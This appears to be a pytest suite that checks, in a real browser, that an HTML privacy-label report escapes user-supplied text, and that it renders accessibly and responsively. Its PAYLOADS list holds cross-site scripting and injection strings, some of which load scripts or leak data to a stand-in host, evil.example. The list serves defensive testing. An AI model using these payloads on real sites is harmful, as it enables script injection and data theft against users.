"""S4: nothing a user writes becomes part of the page, seen in a real Chromium; and the page fits every screen."""

import math
from dataclasses import replace

import pytest
from markupsafe import escape

from tacita.label import Bound, Finding
from tacita.report.page import label_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "</title></style></script><script>alert(1)</script>",
    '"><script src="https://evil.example/x.js"></script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</svg></desc></text><img src=https://evil.example/a.png>",
    '<a href="javascript:alert(1)">x</a>',
    "javascript:alert(1)",
    "{{7*7}}{% for x in (1,2) %}<b>{{ x }}</b>{% endfor %}",
    "{{ ''.__class__.__mro__ }}{# gone #}",
    "</style><style>*{background:url(https://evil.example/c)}</style>",
    "width:1px;background:url(https://evil.example/d)",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;&amp;",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe></iframe>',
    "<form action=https://evil.example><button autofocus onfocus=alert(1)>",
    "-->]]><!--<b>x</b>--!><![CDATA[<i>",
    "\u202e\uff1cscript\uff1ealert(1)\u2066\u2028\u00ad<ſcript>alert(1)</ſcript>",
    '<link rel="stylesheet" href="//evil.example/e.css"><object data="//evil.example/f"></object>',
    "</textarea></noscript></table></main></body></html><body onload=alert(1)>",
]

CENSUS = """() => {
  const seen = {};
  for (const e of document.querySelectorAll('*')) {
    const attributes = [...e.attributes].map(a => a.name).sort().join(' ');
    const kind = `${e.namespaceURI} ${e.localName} [${attributes}]`;
    seen[kind] = (seen[kind] || 0) + 1;
  }
  return seen;
}"""

CONTRAST = """() => {
  const parse = c => (c.match(/[\\d.]+/g) || []).map(Number);
  const linear = v => v <= 10 ? v / 3295 : ((v / 255 + .055) / 1.055) ** 2.4;
  const light = ([r, g, b]) => .2126 * linear(r) + .7152 * linear(g) + .0722 * linear(b);
  const behind = e => {
    for (; e; e = e.parentElement) {
      const c = parse(getComputedStyle(e).backgroundColor);
      if (c.length === 3 || c[3] > 0) return c;
    }
    return [255, 255, 255];
  };
  const poor = [];
  for (const e of document.body.querySelectorAll('*')) {
    if (![...e.childNodes].some(n => n.nodeType === 3 && n.data.trim())) continue;
    if (['title', 'desc', 'style'].includes(e.localName)) continue;
    const style = getComputedStyle(e);
    const a = light(parse(e.namespaceURI.includes('svg') ? style.fill : style.color)), b = light(behind(e));
    const ratio = (Math.max(a, b) + .05) / (Math.min(a, b) + .05);
    if (ratio < 4.5) poor.push(`${e.localName}.${e.className} ${ratio.toFixed(2)}`);
  }
  return poor;
}"""


def both(make_label, text):
    """The public label and the owner's, with one figure published by choice."""
    return make_label(text).public(include=[text]), make_label(text)


def notebook(labels):
    """A page of somebody else's with labels shown in it."""
    frames = "<hr>".join(label._repr_html_() for label in labels)
    return f"<!DOCTYPE html><title>notebook</title><h1>Results</h1>{frames}<p>after</p>"


@pytest.mark.parametrize("part", [0, 1], ids=["public", "owner"])
def test_s4_no_payload_adds_a_node_or_asks_for_anything(make_label, visit, part):
    opened = visit()
    expected = opened.show(label_html(both(make_label, "harmless")[part])).evaluate(CENSUS)
    assert opened.stayed_quiet()
    for payload in PAYLOADS:
        page = opened.show(label_html(both(make_label, payload)[part]))
        assert page.evaluate(CENSUS) == expected, payload
        assert page.title() == payload
        assert page.evaluate("document.querySelector('h1').textContent") == payload
        assert opened.stayed_quiet(), (payload, opened.requests, opened.dialogs, opened.complaints)


def test_s4_no_payload_leaves_the_frame_of_a_notebook(make_label, visit):
    opened = visit()
    page = opened.show(notebook(both(make_label, "harmless")))
    expected = [frame.evaluate(CENSUS) for frame in page.frames]
    assert len(expected) == 3
    owners = page.frames[2]
    owners.locator(".contents a").nth(1).click()
    assert owners.evaluate("[location.href, document.querySelector('details[open] > .inside').id]") == [
        "about:srcdoc#all",
        "all",
    ]
    for payload in PAYLOADS[::3]:
        page = opened.show(notebook(both(make_label, payload)))
        assert [frame.evaluate(CENSUS) for frame in page.frames] == expected, payload
        assert [frame.title() for frame in page.frames] == ["notebook", payload, payload]
        marks = page.evaluate("[...document.querySelectorAll('iframe')].map(e => [e.title, e.getAttribute('sandbox')])")
        assert marks == [[f"Privacy label: {payload}", ""]] * 2
        assert opened.stayed_quiet(), (payload, opened.requests, opened.dialogs, opened.complaints)


@pytest.mark.parametrize("payload", [PAYLOADS[0], PAYLOADS[3], PAYLOADS[5], PAYLOADS[8]])
def test_s4_the_check_sees_a_page_that_does_not_escape(make_label, visit, payload):
    opened = visit()
    expected = opened.show(label_html(make_label("harmless"))).evaluate(CENSUS)
    document = label_html(make_label(payload))
    for tag in ("<h1>", '<p class="said">', "<h4>"):
        careless = document.replace(f"{tag}{escape(payload)}", f"{tag}{payload}")
        assert careless != document
        assert opened.show(careless).evaluate(CENSUS) != expected


def test_s4_without_escaping_or_policy_the_payloads_would_run(make_label, visit):
    opened = visit()
    document = label_html(make_label(PAYLOADS[3])).replace("Content-Security-Policy", "x-none")
    opened.show(document.replace(f"<h1>{escape(PAYLOADS[3])}</h1>", f"<h1>{PAYLOADS[3]}</h1>"))
    assert opened.dialogs == ["1"]
    assert not opened.stayed_quiet()


@pytest.mark.parametrize("text", ["harmless words", "W" * 400, "https://long.example/" + "a/" * 200, "長" * 300])
@pytest.mark.parametrize("width", [380, 1280])
def test_the_page_never_scrolls_sideways(make_label, visit, width, text):
    opened = visit(viewport={"width": width, "height": 800})
    for label in (make_label(text), make_label(text).public()):
        page = opened.show(label_html(label))
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
        cut = (
            "[...document.querySelectorAll('.panel, .card, .label')].filter(e => e.scrollWidth > e.clientWidth).length"
        )
        assert page.evaluate(cut) == 0


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("media", ["screen", "print"])
def test_text_stands_out_and_pictures_have_names(make_label, visit, scheme, media):
    opened = visit(color_scheme=scheme)
    opened.page.emulate_media(media=media, color_scheme=scheme)
    for label in (make_label("x"), make_label("x").public()):
        page = opened.show(label_html(label))
        assert page.evaluate(CONTRAST) == []
        pictures = page.locator("svg")
        assert pictures.count() == (4 if label.readings else 1)
        for i in range(pictures.count()):
            assert pictures.nth(i).locator("> title").text_content()
            assert pictures.nth(i).locator("> desc").text_content()
            assert pictures.nth(i).get_attribute("role") == "img"
        assert page.evaluate("[...document.images].every(e => e.alt && e.naturalWidth > 0)")
        repeated = "(ids => ids.length - new Set(ids).size)([...document.querySelectorAll('[id]')].map(e => e.id))"
        assert page.evaluate(repeated) == 0


def test_text_in_pictures_can_be_read_on_a_phone(make_label, visit):
    page = visit(viewport={"width": 380, "height": 800}).show(label_html(make_label("x")))
    smallest = "Math.min(...[...document.querySelectorAll('svg text')].map(e => e.getBoundingClientRect().height))"
    assert page.evaluate(smallest) >= 11
    overhang = """[...document.querySelectorAll('svg')].flatMap(s => [...s.querySelectorAll('text')].filter(t => {
        const a = s.getBoundingClientRect(), b = t.getBoundingClientRect();
        return b.left < a.left - 1 || b.right > a.right + 1 || b.bottom > a.bottom + 1; })).length"""
    assert page.evaluate(overhang) == 0


BARS = """[...document.querySelectorAll('.bound')].map(e => {
  const scale = e.querySelector('.scale').getBoundingClientRect(), filled = e.querySelector('.scale span');
  const end = part => part && (part.getBoundingClientRect().right - scale.left) / scale.width;
  return [end(filled), end(e.querySelector('.scale i')), scale.width, getComputedStyle(filled).backgroundColor];
})"""


@pytest.mark.parametrize("width", [380, 1280])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_bars_show_what_was_proved_beside_the_claim_and_a_broken_claim_stands_out(make_label, visit, width, scheme):
    label = make_label("x")
    bounds = (
        Bound(who="stood", lower=1.0, upper=2.0, state="not-refuted"),
        Bound(who="broken, although marked as standing", lower=4.0, upper=3.0, state="not-refuted"),
        Bound(who="nothing claimed", lower=2.0, upper=math.inf, state="open"),
    )
    finding = Finding(key="canaries", heading="h", state="not-refuted", sentence="s", bounds=bounds)
    opened = visit(viewport={"width": width, "height": 800}, color_scheme=scheme)
    page = opened.show(label_html(replace(label, readings=replace(label.readings, audit=(finding,)))))
    stood, broken, endless = page.evaluate(BARS)
    assert stood[:2] == pytest.approx([0.25, 0.5], abs=0.01)
    assert broken[:2] == pytest.approx([1.0, 0.75], abs=0.01)
    assert endless[:2] == [pytest.approx(0.5, abs=0.01), None]
    assert stood[2] == broken[2] == endless[2]
    alarm = page.evaluate("getComputedStyle(document.querySelector('.verdict')).color")
    assert broken[3] == alarm != stood[3]
    assert page.locator(".bound.warning").count() == 1
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")


def test_the_contents_open_what_they_point_to_and_folded_parts_are_printed(make_label, visit):
    opened = visit(viewport={"width": 1280, "height": 800})
    page = opened.show(label_html(make_label("x")))
    links = page.locator(".contents a")
    targets = [links.nth(i).get_attribute("href")[1:] for i in range(links.count())]
    assert len(targets) == len(set(targets)) > 8
    for name in targets:
        page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = false; })")
        page.locator(f'.contents a[href="#{name}"]').click()
        assert page.evaluate(f"document.getElementById('{name}').closest('details').open")
        top = page.evaluate(f"document.getElementById('{name}-name').getBoundingClientRect().top")
        assert 0 <= top < 800
    page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = false; })")
    page.emulate_media(media="print")
    hidden = "[...document.querySelectorAll('.inside')].filter(e => e.getBoundingClientRect().height === 0).length"
    assert page.evaluate(hidden) == 0
    assert opened.stayed_quiet()


def test_the_answers_and_the_scale_fit_one_screen(make_label, visit):
    page = visit(viewport={"width": 1280, "height": 900}).show(label_html(make_label("x")))
    assert page.evaluate("document.querySelector('.ruler').getBoundingClientRect().bottom") < 900
    folded = page.evaluate("document.querySelectorAll('details.fold:not([open])').length")
    assert folded >= 9
